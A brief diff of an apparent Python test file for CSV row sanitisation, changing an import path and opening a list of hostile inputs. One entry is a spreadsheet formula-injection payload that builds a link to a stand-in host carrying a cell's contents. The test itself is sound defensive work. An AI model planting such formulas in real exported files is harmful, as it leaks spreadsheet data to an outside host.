@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from standby.reports.rules.csv_rows import csv_row
+from standby.reports.rules import csv_row
 
 HOSTILE = [
     '=HYPERLINK("https://evil.test?"&A1,"x")',
